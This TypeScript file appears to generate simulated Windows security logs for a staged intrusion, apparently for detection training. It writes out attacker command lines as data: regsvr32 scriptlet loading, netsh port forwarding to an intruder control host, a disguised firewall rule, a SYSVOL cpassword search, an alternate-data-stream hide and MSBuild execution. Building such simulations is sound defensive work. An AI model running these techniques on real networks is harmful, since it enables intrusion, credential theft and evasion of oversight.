import type { Foothold } from './foothold';
import type { Stage } from './intrusion-stage';
import { createRandom } from './random';
import { minute, second } from './row';
import type { Process, Start } from './rows/process';
import { processCreatedRow } from './rows/process-created';
import { intruder } from './story';

/** What Windows brought with it does the work: on the file server first, then on the management server. */
export function windowsTools(
  stage: Stage,
  fileServer: { target: Foothold; implant: Process },
  management: Foothold,
): void {
  const { clock } = stage;
  const random = createRandom(stage.company.seed, 'tools of Windows');
  const audited = (on: Foothold, parent: Process, start: Start): Process => {
    const process = on.start(parent, start);
    on.put('SecurityEvent', start.at + 5, processCreatedRow(random, on.host, process));
    return process;
  };

  const library = clock.at('library');
  const { target, implant } = fileServer;
  const script = audited(target, implant, {
    file: 'regsvr32.exe',
    at: library,
    commandLine: `regsvr32.exe /s /n /u /i:${intruder.folder}\\gfx.sct scrobj.dll`,
  });
  target.connect(script, library + 2 * second, intruder.controlAddress, 443, intruder.controlName);
  audited(target, implant, {
    file: 'rundll32.exe',
    at: library + 4 * minute,
    commandLine: `rundll32.exe ${intruder.folder}\\igfxcfg.dll,Start`,
  });

  const forward = clock.at('port-forward');
  const console = management.start(null, {
    file: 'cmd.exe',
    at: forward - minute,
    commandLine: '"C:\\Windows\\System32\\cmd.exe"',
    runner: stage.account.runner,
    integrity: 'High',
  });
  audited(management, console, {
    file: 'netsh.exe',
    at: forward,
    commandLine: `netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=443 connectaddress=${intruder.controlAddress}`,
  });
  audited(management, console, {
    file: 'netsh.exe',
    at: forward + 21 * second,
    commandLine:
      'netsh advfirewall firewall add rule name="Graphics update" dir=in action=allow protocol=TCP localport=8443',
  });

  const renamed = clock.at('renamed-tool');
  const copy = { file: 'gfxcmd.exe', folder: intruder.folder, originalName: 'cmd.exe' } as const;
  audited(management, console, {
    ...copy,
    at: renamed,
    commandLine: `${intruder.folder}\\gfxcmd.exe /q /c dir /s \\\\fh-fs01\\Finance`,
  });
  audited(management, console, {
    file: 'findstr.exe',
    at: renamed + 3 * minute,
    commandLine: 'findstr /s /i /m cpassword \\\\fernhill.example\\SYSVOL\\*.xml',
  });
  const forEach = audited(management, console, {
    file: 'forfiles.exe',
    at: renamed + 6 * minute,
    commandLine: `forfiles /p C:\\Windows\\System32 /m notepad.exe /c "${intruder.folder}\\gfxcmd.exe /c quser"`,
  });
  audited(management, forEach, {
    ...copy,
    at: renamed + 6 * minute + second,
    commandLine: `${intruder.folder}\\gfxcmd.exe /c quser`,
  });
  audited(management, console, {
    file: 'cmd.exe',
    at: renamed + 8 * minute,
    commandLine: `cmd.exe /c type ${intruder.folder}\\gfx.xml > C:\\ProgramData\\readme.txt:gfx`,
  });

  const build = clock.at('build');
  const builder = audited(management, console, {
    file: 'MSBuild.exe',
    folder: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319',
    at: build,
    commandLine: `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe ${intruder.folder}\\gfx.xml /nologo`,
  });
  management.connect(builder, build + 5 * second, intruder.controlAddress, 443, intruder.controlName);
}
